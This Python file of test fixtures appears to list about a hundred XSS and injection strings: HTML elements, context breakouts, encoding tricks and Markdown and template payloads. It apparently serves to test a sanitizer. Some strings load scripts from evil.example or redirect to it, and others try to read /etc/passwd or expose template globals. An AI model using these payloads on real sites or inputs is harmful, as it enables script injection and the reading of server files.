"""Strings that try to become markup, script or address somewhere between an article and a reader's browser."""

# ruff: noqa: E501, F541 - an attack is easier to read on one line
RUN = "window.__pwned=1"

_ELEMENTS = [
    f"<script>{RUN}</script>", f"<ScRiPt >{RUN}</sCrIpT >", f"<script src=//evil.example/x.js></script>", f"<img src=x onerror={RUN}>",
    f'<svg onload="{RUN}">', f"<svg><script>{RUN}</script></svg>", f"<body onload={RUN}>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "<iframe src=javascript:parent.__pwned=1></iframe>", f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example)}</style>", "<form action=//evil.example><button>x",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>", "<embed src=//evil.example/x.swf>", f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<math href='javascript:{RUN}'>x</math>", f"<template><script>{RUN}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<xmp><img src=x onerror={RUN}></xmp>", "<plaintext>", f"<textarea></textarea><img src=x onerror={RUN}>", f"<title></title><script>{RUN}</script>",
    f"<marquee onstart={RUN}>x</marquee>", f"<a href='javascript:{RUN}'>x</a>", f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<p style='background:url(javascript:{RUN})'>x</p>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><use href='data:image/svg+xml,<svg/onload={RUN}>'/></svg>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>", f"<table background='javascript:{RUN}'>", f"<isindex action=javascript:{RUN} type=image>",
    "<frameset><frame src=//evil.example></frameset>", f"<x onclick={RUN}>click</x>", f"<div onpointerenter={RUN}>x</div>", f"<select><noembed></select><script>{RUN}</script>",
]  # fmt: skip
_BREAKOUTS = [
    f"</script><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>",
    f'"><script>{RUN}</script>', f"'><script>{RUN}</script>", f'" onmouseover="{RUN}', f"' onfocus='{RUN}' autofocus='", f"`onerror={RUN}`",
    f"</a><img src=x onerror={RUN}>", f"</h3></article></section><script>{RUN}</script>", f"</textarea><script>{RUN}</script>",
    f"<!--<script>{RUN}</script>", f"<!--><script>{RUN}</script>-->", f"<![CDATA[<script>{RUN}</script>]]>", f"<?php {RUN} ?><script>{RUN}</script>",
    f'{{"@type":"x"}}</script><script>{RUN}</script>', f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"\\\"-{RUN}-\\\"", f"';{RUN};//",
]  # fmt: skip
_ENCODED = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"&#x3c;img src=x onerror={RUN}&#x3e;", f"&amp;lt;script&amp;gt;{RUN}",
    f"%3Cscript%3E{RUN}%3C/script%3E", f"＜script＞{RUN}＜/script＞", f"<scr\u0000ipt>{RUN}</scr\u0000ipt>", f"<\u200bscript>{RUN}</script>",
    f"\u202e<script>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<img src=x onerror\n=\n{RUN}>", f"<img/src=x/onerror={RUN}>",
    f"<svg/onload={RUN}", f"<a href=jav&#x09;ascript:{RUN}>x</a>", f"<a href='\x01javascript:{RUN}'>x</a>", f"<a href=' javascript&colon;{RUN}'>x</a>",
]  # fmt: skip
_MARKDOWN = [
    f"[x](javascript:{RUN})", f"[x](<javascript:{RUN}>)", f"[x](data:text/html;base64,PHNjcmlwdD4=)", f"[x](vbscript:{RUN})", f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\nscript:{RUN})", f"[x](&#106;avascript:{RUN})", f"[x](javascript&colon;{RUN})", f'[x](https://a.example "t" onclick="{RUN}")', f"[x](https://a.example\" onclick=\"{RUN})",
    f"![x](javascript:{RUN})", f"![x](https://evil.example/pixel.gif)", f'![x" onerror="{RUN}](x)', f"<javascript:{RUN}>", f"<https://a.example/\"onclick=\"{RUN}>",
    f"[x]: javascript:{RUN}\n\n[x]", f"[x]{{onclick={RUN}}}", f"# h {{: onclick={RUN} }}", f"```\n</code><script>{RUN}</script>\n```", f"`</code><script>{RUN}</script>`",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |", f"- [ ] <img src=x onerror={RUN}>", f"> <script>{RUN}</script>", "---\ntemplate: /etc/passwd\n---", "{{ config }}{% include '404.html' %}{{ self.__init__.__globals__ }}",
    "--8<-- \"/etc/passwd\"", "<!-- more --><script>", f"[^1]: <script>{RUN}</script>", f"*[x]: <script>{RUN}</script>", "$$\\href{javascript:" + RUN + "}{x}$$",
]  # fmt: skip

ATTACKS: tuple[str, ...] = tuple(_ELEMENTS + _BREAKOUTS + _ENCODED + _MARKDOWN)
